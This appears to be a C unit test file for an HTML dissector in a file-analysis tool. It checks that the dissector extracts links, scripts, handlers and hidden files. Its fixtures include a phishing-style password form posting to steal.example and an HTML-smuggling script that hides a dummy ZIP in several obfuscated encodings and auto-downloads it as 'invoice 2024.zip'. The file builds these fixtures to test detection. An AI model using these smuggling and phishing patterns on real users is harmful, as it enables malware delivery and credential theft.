/* test_html.c - pages: scripts, links, forms, and files that scripts would save. */
#include "open.h"

#include "base/enc.h"
#include "base/mem.h"

#include <stdlib.h>

#define PAYLOAD_BYTES 3000u

static struct dissect *open_page(const char *page)
{
    return open_bytes(
            container_open_html, DISSECT_HTML, "a.html", hn_bytes_of(page, strlen(page)), NULL);
}

/* "PK" and what looks like an archive behind it. */
static struct hn_bytes payload(uint8_t *room)
{
    for (size_t i = 0; i < PAYLOAD_BYTES; i++)
        room[i] = (uint8_t)(i * 31 + (i >> 5));
    memcpy(room, "PK\x03\x04", 4);
    return hn_bytes_of(room, PAYLOAD_BYTES);
}

static void parts_of_a_page(void **state)
{
    struct dissect *dissect = open_page(
            "<!DOCTYPE html><!-- <script>no()</script> --><html><head><title>Sign &amp; in</title>"
            "<meta http-equiv=Refresh content=\"0; URL='https://next.example/?a=1&amp;b=2'\">"
            "<style>a{background:url(x)}</style></head>\n"
            "<body onload='start(&quot;x&quot;)'><p>Hello <b>world</b></p>"
            "<a href=\"https://a.exa\nmple/p\">l</a><a href='javascript:go()'>j</a>"
            "<form action=https://steal.example/post><input type=PASSWORD></form>"
            "<iframe src=\"//frame.example/\"></iframe>"
            "<script language=\"VBScript\">MsgBox 1</script>"
            "<SCRIPT src=https://js.example/x.js></SCRIPT ><script>alert('</a>')</script></body>");

    (void)state;
    check_text(fact_of(dissect, 0, "title", 0), "Sign & in");
    check_text(fact_of(dissect, 0, "form_action", 0), "https://steal.example/post");
    check_text(fact_of(dissect, 0, "password_field", 0), "true");
    check_text(fact_of(dissect, 0, "script_count", 0), "3");
    assert_true(has_text(dissect, 0, "https://next.example/?a=1&b=2"));
    assert_true(has_text(dissect, 0, "https://a.example/p"));
    assert_true(has_text(dissect, 0, "https://steal.example/post"));
    assert_true(has_text(dissect, 0, "//frame.example/"));
    assert_true(has_text(dissect, 0, "https://js.example/x.js"));
    assert_true(has_text(dissect, 0, "Hello world lj"));
    check_child(dissect, "script", "MsgBox 1");
    assert_int_equal(dissect_get(dissect, 1)->format, DISSECT_VBSCRIPT);
    assert_int_equal(dissect_get(dissect, 2)->format, DISSECT_JSCRIPT);
    check_child(dissect, "handlers", "start(\"x\")\ngo()\n");
    assert_int_equal(dissect_count(dissect), 4);
    dissect_free(dissect);
}

static void check_smuggled(const struct hn_buf *page, const char *name)
{
    uint8_t room[PAYLOAD_BYTES];
    struct hn_bytes bytes = payload(room);
    struct dissect *dissect = open_bytes(
            container_open_html, DISSECT_HTML, "a.html", hn_text_as_bytes(hn_buf_text(page)), NULL);
    uint32_t id = child_named(dissect, name);

    assert_int_not_equal(id, DISSECT_NONE);
    assert_string_equal(dissect_get(dissect, id)->relation, "smuggled");
    assert_int_equal(dissect_get(dissect, id)->data.len, bytes.len);
    assert_memory_equal(dissect_get(dissect, id)->data.ptr, bytes.ptr, bytes.len);
    check_text(fact_of(dissect, 0, "smuggled_files", 0), "1");
    assert_non_null(note_of(dissect, 0, DISSECT_NOTE_HIDDEN).ptr);
    dissect_free(dissect);
}

enum disguise { PLAIN, PIECES, BACKWARDS, HEX, NUMBERS, DATA_URL, DISGUISES };

static void put_disguised(struct hn_buf *page, enum disguise disguise, struct hn_bytes bytes)
{
    struct hn_buf coded = { 0 };

    hn_base64_encode(&coded, bytes);
    switch (disguise) {
    case PIECES:
        for (size_t at = 0; at < coded.len; at += 50) {
            hn_buf_addf(page, "%s'", at > 0 ? " +\n " : "");
            hn_buf_add_text(page, hn_text_sub(hn_buf_text(&coded), at, 50));
            hn_buf_add_cstr(page, "'");
        }
        break;
    case BACKWARDS:
        hn_buf_add_char(page, '"');
        for (size_t i = coded.len; i-- > 0;)
            hn_buf_add_char(page, coded.ptr[i]);
        hn_buf_add_char(page, '"');
        break;
    case HEX:
        hn_buf_add_char(page, '"');
        hn_buf_add_hex(page, bytes.ptr, bytes.len);
        hn_buf_add_char(page, '"');
        break;
    case NUMBERS:
        hn_buf_add_char(page, '[');
        for (size_t i = 0; i < bytes.len; i++)
            hn_buf_addf(page, i % 3 == 0 ? "0x%x, " : "%u,", bytes.ptr[i]);
        hn_buf_add_char(page, ']');
        break;
    case DATA_URL:
        hn_buf_add_cstr(page, "\"data:application/zip;base64,");
        hn_buf_add_text(page, hn_buf_text(&coded));
        hn_buf_add_char(page, '"');
        break;
    case PLAIN:
    case DISGUISES:
        hn_buf_add_char(page, '"');
        hn_buf_add_text(page, hn_buf_text(&coded));
        hn_buf_add_char(page, '"');
        break;
    }
    hn_buf_deinit(&coded);
}

static void smuggled_files_come_out(void **state)
{
    uint8_t room[PAYLOAD_BYTES];
    struct hn_bytes bytes = payload(room);

    (void)state;
    for (enum disguise disguise = PLAIN; disguise < DISGUISES; disguise++) {
        struct hn_buf page = { 0 };

        hn_buf_add_cstr(&page, "<html><body><script>/* don't */ var d = ");
        put_disguised(&page, disguise, bytes);
        hn_buf_add_cstr(&page,
                "; // it's\nvar b = new Blob([f(atob(d))]); var a = document.createElement('a');"
                "a.href = URL.createObjectURL(b); a.download = 'invoice 2024.zip'; a.click();"
                "</script></body></html>");
        check_smuggled(&page, "invoice 2024.zip");
        hn_buf_deinit(&page);
    }
}

static void data_urls_are_files(void **state)
{
    struct dissect *dissect = open_page(
            "<a download=\"doc.html\" href=\"data:text/html;base64,"
            "PGh0bWw+"
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PjxwPnNvbWUgdGV4dCB0byBmaWxsIGl0PC9wPjwvaHRtbD4="
            "\">x</a><img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAf"
            "FcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\">");

    (void)state;
    check_child(dissect, "doc.html",
            "<html><script>alert(1)</script><p>some text to fill it</p></html>");
    assert_int_equal(dissect_count(dissect), 2);
    dissect_free(dissect);
}

/* Broken markup of the kinds that make readers quadratic ends soon. */
static void broken_markup_ends_soon(void **state)
{
    static const char *const pieces[] = { "<a b=' ", "<a b=\" ", "<script x='", "<!--", "<style>",
        "<a href=\"", "<<<<", "\"'", "<script>\"", "[1,2,3" };

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(pieces); i++) {
        struct hn_buf page = { 0 };

        while (page.len < (size_t)2 << 20)
            hn_buf_add_cstr(&page, pieces[i]);
        dissect_free(open_bytes(container_open_html, DISSECT_HTML, "a.html",
                hn_text_as_bytes(hn_buf_text(&page)), NULL));
        hn_buf_deinit(&page);
    }
}

static void every_allocation_may_fail(void **state)
{
    uint8_t room[PAYLOAD_BYTES];
    struct hn_buf page = { 0 };

    (void)state;
    hn_buf_add_cstr(&page, "<title>t</title><a onclick='x()' href='https://a.example'>b</a><script>"
                           "var a = new Blob(");
    put_disguised(&page, PIECES, payload(room));
    hn_buf_add_cstr(&page, ")</script>");
    open_without_memory(container_open_html, DISSECT_HTML, hn_text_as_bytes(hn_buf_text(&page)));
    hn_buf_deinit(&page);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(parts_of_a_page),
        cmocka_unit_test(smuggled_files_come_out),
        cmocka_unit_test(data_urls_are_files),
        cmocka_unit_test(broken_markup_ends_soon),
        cmocka_unit_test(every_allocation_may_fail),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
